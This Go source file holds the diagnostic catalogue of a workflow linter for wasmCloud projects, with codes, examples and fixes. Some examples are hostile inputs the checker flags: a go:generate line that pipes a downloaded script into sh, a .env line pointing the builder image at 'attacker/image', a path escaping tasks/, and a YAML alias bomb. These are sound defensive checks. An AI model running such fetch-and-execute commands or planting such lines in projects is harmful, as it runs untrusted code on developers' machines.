package check

import "sort"

// Code is a stable diagnostic code such as "PL101". Codes never change meaning; a
// retired code is never reused.
type Code string

// The codes. Ranges: PL0xx YAML and file level, PL1xx keys and types, PL2xx values,
// PL3xx cross-task rules, PL4xx task Go code, PL5xx settings in .env, PL6xx the lattice
// (lattice.go).
const (
	CodeSyntax          Code = "PL001"
	CodeDuplicateKey    Code = "PL002"
	CodeMultiDoc        Code = "PL003"
	CodeTabIndent       Code = "PL004"
	CodeEmptyFile       Code = "PL005"
	CodeTooLarge        Code = "PL006"
	CodeNotMapping      Code = "PL007"
	CodeNoWorkflow      Code = "PL008"
	CodeBadEncoding     Code = "PL009"
	CodeNotRegular      Code = "PL010"
	CodeUnknownKey      Code = "PL101"
	CodeMissingKey      Code = "PL102"
	CodeWrongType       Code = "PL103"
	CodeDeprecatedKey   Code = "PL104"
	CodeUnusedKey       Code = "PL105"
	CodeEmptyValue      Code = "PL106"
	CodeUnknownType     Code = "PL201"
	CodeCodeMissing     Code = "PL202"
	CodeCodeEscapes     Code = "PL203"
	CodeBadComponent    Code = "PL204"
	CodeDupComponent    Code = "PL205"
	CodeBadVersion      Code = "PL206"
	CodeBadSubject      Code = "PL207"
	CodeWildcardDest    Code = "PL208"
	CodeBadTargets      Code = "PL209"
	CodeBadPort         Code = "PL210"
	CodeBadInstances    Code = "PL211"
	CodeBadBucket       Code = "PL212"
	CodeBadConfig       Code = "PL213"
	CodeBadCodeKind     Code = "PL214"
	CodeUppercaseComp   Code = "PL215"
	CodeUnknownPlatform Code = "PL216"
	CodePlatformKey     Code = "PL217"
	CodeK8sComponent    Code = "PL218"
	CodeBadHTTPHost     Code = "PL219"
	CodeK8sTarget       Code = "PL220"
	CodeSelfLoop        Code = "PL301"
	CodeCycle           Code = "PL302"
	CodeExternalSource  Code = "PL303"
	CodeExternalDest    Code = "PL304"
	CodePortClash       Code = "PL305"
	CodeDupTaskName     Code = "PL306"
	CodeDupHTTPHost     Code = "PL307"
	CodeGoSyntax        Code = "PL401"
	CodeGoType          Code = "PL402"
	CodeNotMain         Code = "PL403"
	CodeNoExecTask      Code = "PL404"
	CodeBadSignature    Code = "PL405"
	CodeExecTaskForm    Code = "PL406"
	CodeUserMain        Code = "PL407"
	CodeWasmImport      Code = "PL408"
	CodeUnresolvedImp   Code = "PL409"
	CodeTaskHasErrors   Code = "PL410"
	CodeTaskUnreadable  Code = "PL411"
	CodeTaskImport      Code = "PL412"
	CodeGoGenerate      Code = "PL413"
	CodeRecover         Code = "PL414"

	CodeUnknownSetting Code = "PL501"
	CodeBadSetting     Code = "PL502"
	CodeSettingTwice   Code = "PL503"
	CodeNotFromDotEnv  Code = "PL504"
)

// CodeInfo documents one code: what it means, an example that triggers it and the fix.
type CodeInfo struct {
	Code     Code
	Severity Severity // the usual severity; a rule may choose another
	Title    string
	Example  string // a snippet that triggers it
	Fix      string // what to do
}

// Catalogue returns every code with its documentation, ordered by code.
func Catalogue() []CodeInfo {
	out := make([]CodeInfo, len(catalogue))
	copy(out, catalogue)
	sort.Slice(out, func(i, j int) bool { return out[i].Code < out[j].Code })
	return out
}

// Lookup returns the documentation of code.
func Lookup(code Code) (CodeInfo, bool) {
	for _, c := range catalogue {
		if c.Code == code {
			return c, true
		}
	}
	return CodeInfo{}, false
}

var catalogue = []CodeInfo{
	{CodeSyntax, Error, "YAML syntax error", "tasks:\n  - name: [unclosed", "Fix the YAML at the reported position; the message says what the parser expected."},
	{CodeDuplicateKey, Error, "Duplicate key in a mapping", "version: 1.0.0\nversion: 1.0.1", "Keep one of the keys; YAML mappings cannot repeat a key."},
	{CodeMultiDoc, Error, "Several YAML documents in workflow.yaml", "project_name: a\n---\nproject_name: b", "Keep one document: remove the `---` separator and merge the content."},
	{CodeTabIndent, Error, "Tab used for indentation", "tasks:\n\t- name: x", "Indent with spaces; YAML forbids tabs in indentation."},
	{CodeEmptyFile, Error, "workflow.yaml is empty", "", "Add `project_name:` and a `tasks:` list, or run `pelato init` in an empty folder."},
	{CodeTooLarge, Error, "Workflow too large or too deeply nested to check", "a: &a [*b, *b, *b]  # alias bomb", "Simplify the file: pelato refuses alias expansions, nesting and sizes far beyond any real workflow."},
	{CodeNotMapping, Error, "Top level of workflow.yaml is not a mapping", "- just\n- a list", "The file must be a mapping with `project_name` and `tasks`."},
	{CodeNoWorkflow, Error, "No workflow.yaml in the project folder", "(missing file)", "Create workflow.yaml, or run `pelato init`."},
	{CodeBadEncoding, Error, "workflow.yaml is not valid UTF-8", "name: \\xff", "Save the file as UTF-8."},
	{CodeNotRegular, Error, "workflow.yaml is not a regular file", "workflow.yaml -> /dev/zero", "Make workflow.yaml a regular file (a symbolic link to one is fine): pelato never reads named pipes, devices or sockets."},
	{CodeUnknownKey, Error, "Unknown key", "  taregts: [edge]", "Use one of the keys the message lists; the quick fix applies the closest one."},
	{CodeMissingKey, Error, "Required key is missing", "  - name: t  # no type, code, ...", "Add the key; the quick fix inserts it with a placeholder value."},
	{CodeWrongType, Error, "Value has the wrong type", "  targets: edge  # must be a list", "Write the value with the type the message names."},
	{CodeDeprecatedKey, Warning, "Deprecated key spelling", "  target: edge", "Use `targets:` with a list; the quick fix rewrites it."},
	{CodeUnusedKey, Hint, "Key is not used by this task's template", "  type: nats_to_nats-kv\n  dest_topic: out", "Remove the key, or pick a template that uses it."},
	{CodeEmptyValue, Error, "Value is empty", "project_name: \"\"", "Give the key a non-empty value."},
	{CodeUnknownType, Error, "Unknown template type", "  type: procesor_nats", "Use one of the templates the message lists (`pelato templates` prints them)."},
	{CodeCodeMissing, Error, "Task code file or folder does not exist", "  code: convert.go  # no tasks/convert.go", "Create the file under tasks/ (the quick fix writes a stub with the right signature) or fix the name."},
	{CodeCodeEscapes, Error, "Task code path leaves tasks/", "  code: ../secret.go", "Keep task code inside tasks/: no `..`, no absolute path, no symbolic link out."},
	{CodeBadComponent, Error, "Invalid component_name", "  component_name: My Component", "Use lowercase letters and digits separated by single `.`, `_` or `-`: it becomes an OCI repository and a wadm name."},
	{CodeDupComponent, Error, "Duplicate component_name", "two tasks with component_name: filter", "Give every task its own component_name."},
	{CodeBadVersion, Error, "Invalid version", "  version: latest", "Use a semantic version x.y.z (a pre-release like 1.0.0-rc.1 is allowed); never `latest`, and no build metadata (`1.0.0+abc`): the version is the OCI tag, which cannot hold `+` (nor more than 128 characters)."},
	{CodeBadSubject, Error, "Invalid NATS subject", "  source_topic: living room", "Use dot-separated tokens without spaces; `*` and `>` only as whole tokens, `>` last."},
	{CodeWildcardDest, Error, "Wildcard in dest_topic", "  dest_topic: out.*", "A task publishes to one concrete subject: remove the wildcard."},
	{CodeBadTargets, Error, "Invalid targets", "  targets: []", "List one or more distinct host-type labels, e.g. `[edge]`."},
	{CodeBadPort, Error, "Invalid http_port", "  http_port: 70000", "Use a port from 1 to 65535."},
	{CodeBadInstances, Error, "Invalid instances", "  instances: 0", "Use a whole number of at least 1."},
	{CodeBadBucket, Error, "Invalid bucket name", "  bucket: my bucket", "Use letters, digits, `-` and `_` only (a NATS KV bucket name)."},
	{CodeBadConfig, Error, "Invalid config map", "  config: [a, b]", "Use a mapping of names to string values."},
	{CodeBadCodeKind, Error, "Task code is not a Go file or a folder of Go files", "  code: convert.py", "Point `code` at a `.go` file or at a folder under tasks/ holding `.go` files."},
	{CodeUppercaseComp, Error, "component_name has uppercase letters", "  component_name: TempFilter", "Lowercase it; the quick fix does."},
	{CodeUnknownPlatform, Error, "Unknown platform", "platform: wasmcloud3", "Use `wasmcloud1` (wasmCloud 1.x with wadm, the default) or `wasmcloud2` (wasmCloud 2.x on Kubernetes); the quick fix applies the closest one. See docs/wasmcloud2.md."},
	{CodePlatformKey, Warning, "Key has no effect on the project's platform", "platform: wasmcloud2\n...\n    http_port: 8081", "On wasmcloud2 HTTP is routed by Host header: set `http_host` (default `<component_name>.localhost`) and remove `http_port`. On wasmcloud1 the producer listens on `http_port`: remove `http_host`. The quick fix removes the key."},
	{CodeK8sComponent, Error, "component_name is not a Kubernetes name (wasmcloud2)", "platform: wasmcloud2\n...\n    component_name: temp_filter", "On wasmcloud2 component_name names Kubernetes objects: use at most 63 lowercase letters, digits and `-` (a DNS-1123 label); the quick fix replaces `_` and `.` with `-`."},
	{CodeBadHTTPHost, Error, "Invalid http_host", "    http_host: http://convert.example.com:8080/", "Give a host name only (`convert.example.com`): no scheme, port or path; the quick fix keeps the host."},
	{CodeK8sTarget, Error, "Target cannot be used on Kubernetes (wasmcloud2)", "platform: wasmcloud2\n...\n    targets: [Edge_EU]", "On wasmcloud2 a target is the `hostgroup` label value of the hosts and ends the WorkloadDeployment's name: use at most 63 lowercase letters, digits, `-` and `.`; the quick fix lowercases it and replaces `_` with `-`."},
	{CodeSelfLoop, Error, "Task consumes its own output", "  source_topic: t\n  dest_topic: t", "Publish to a different subject than the one the task consumes, or it triggers itself forever."},
	{CodeCycle, Warning, "Tasks form a cycle", "a: x→y, b: y→x", "Check that messages cannot circulate forever; break the cycle if it is not intended."},
	{CodeExternalSource, Hint, "source_topic is not produced by any task", "  source_topic: sensors.raw", "Nothing to fix when the subject is fed from outside the workflow."},
	{CodeExternalDest, Hint, "dest_topic is not consumed by any task", "  dest_topic: results", "Nothing to fix when the subject is read outside the workflow."},
	{CodePortClash, Error, "Two HTTP producers listen on the same port on the same target", "two http_producer_nats tasks on edge, both port 8000", "Give one of them another `http_port`."},
	{CodeDupTaskName, Warning, "Duplicate task name", "two tasks named `Filter`", "Give tasks distinct names: they appear in logs and in wadm descriptions."},
	{CodeDupHTTPHost, Error, "Two HTTP producers route the same Host (wasmcloud2)", "two http_producer_nats tasks with http_host: api.localhost", "Give one of them another `http_host` (the default is `<component_name>.localhost`)."},
	{CodeGoSyntax, Error, "Go syntax error in a task file", "func exec_task(arg string) string {", "Fix the Go syntax at the reported position."},
	{CodeGoType, Error, "Go type error in a task file", "return 42 // in a func returning string", "Fix the Go code at the reported position."},
	{CodeNotMain, Error, "Task file is not package main", "package convert", "Use `package main`: the template compiles the task into its program."},
	{CodeNoExecTask, Error, "Task has no exec_task function", "func run(arg string) string", "Define `exec_task` with the signature the template calls. A function named almost so (`Exec_task`, `execTask`) gets a did-you-mean and a quick fix that renames it (Go names are case-sensitive)."},
	{CodeBadSignature, Error, "exec_task has the wrong signature for its template", "func exec_task(arg []byte) string", "Use the signature the message names; the quick fix rewrites the declaration."},
	{CodeExecTaskForm, Error, "exec_task is not a plain function", "var exec_task = func(string) string {...}", "Declare `exec_task` as a top-level, non-generic function (not a method or variable)."},
	{CodeUserMain, Error, "Task declares func main", "func main() {}", "Remove `main`: the generated harness provides it."},
	{CodeWasmImport, Warning, "Import cannot work in a wasip2 component", "import \"os/exec\"", "Remove the import; TinyGo's wasip2 target has no processes, plugins or raw sockets."},
	{CodeUnresolvedImp, Warning, "Third-party import not resolved locally", "import \"github.com/x/y\"", "It is resolved by `go mod tidy` at build time; to pin it, add a go.mod at the project root and run `go get`."},
	{CodeTaskHasErrors, Info, "Task code has errors (a pointer to them)", "  code: convert.go  # convert.go has a type error", "Open the task file and fix the errors reported there. This is information on the `code:` line, not a problem of its own: each error is reported, and counted, once, in the task file."},
	{CodeTaskUnreadable, Error, "Task code cannot be read", "tasks/convert.go is not readable", "Check the file's permissions and encoding (UTF-8)."},
	{CodeGoGenerate, Warning, "//go:generate line in a task file", "//go:generate sh -c \"curl example.com | sh\"", "`pelato gen` would copy the line into gen/, where `wash build` runs `go generate` and with it the command, at build time. gen refuses to copy it unless you opt in with `pelato gen --allow-go-generate` (also on build and brush; only a flag, never a workflow.yaml key, since a project you clone must not decide what runs when you build it). Or remove the line (the quick fix does), run the generator yourself and keep its output in the task."},
	{CodeRecover, Warning, "recover() has no effect in a TinyGo WebAssembly build", "defer func() { recover() }()", "TinyGo, which builds the components (the version pelato's builder pins), disables recover on WebAssembly: recover() returns nil and a panic traps the whole invocation, so the message or request fails. `pelato dev` runs mainline Go, where recover works: do not rely on it, return an error result instead. The rule follows the pinned TinyGo version (check.TinyGoRecoverSince)."},
	{CodeUnknownSetting, Warning, "Unknown setting in .env", "REGISTY_URL=registry.example:5000", "Use the setting the message suggests (the quick fix renames it); `pelato help` and README.md list pelato's settings. A name pelato does not read is ignored: a hint when nothing is close to it."},
	{CodeBadSetting, Error, "Invalid setting value in .env", "PARALLEL_BUILD=maybe", "Give the value the message asks for (True or False, a port number, ...); commands that read the setting refuse to run until it is fixed."},
	{CodeSettingTwice, Warning, "Setting given twice in .env", "NATS_HOST=a\nNATS_HOST=b", "Keep one line: the last one wins, which is easy to miss."},
	{CodeNotFromDotEnv, Warning, "Setting that .env cannot set", "PELATO_BUILDER_IMAGE=attacker/image", "Settings that choose what runs on your machine (PELATO_BUILDER_IMAGE, PELATO_BUILD_NETWORK, PELATO_BUILD_MEMORY, PELATO_BUILD_PIDS, PELATO_TINYGO_VERSION, PELATO_WASM_TOOLS_VERSION) are read from flags and your environment only, never from a project's .env, which may come with a cloned project: pelato ignores the line. Set it in your shell (export NAME=value) or with the command's flag, and remove the line."},
	{CodeTaskImport, Error, "Task imports another task or a relative path", "import \"example.com/proj/tasks/filter\"", "Each task is its own program and cannot be imported: move shared code to a package outside tasks/ (with a go.mod at the project root) and import it by its module path."},
	{CodeNoHostForTarget, Hint, "No host of the lattice carries this target label", "  targets: [gpu]  # no host has host-type=gpu", "Start a wasmCloud host with the label (`wash up --label host-type=gpu`, or `wasmcloud --label host-type=gpu`) or target a label a host has. Reported only when lattice checks are enabled in the editor (the latticeChecks setting)."},
}
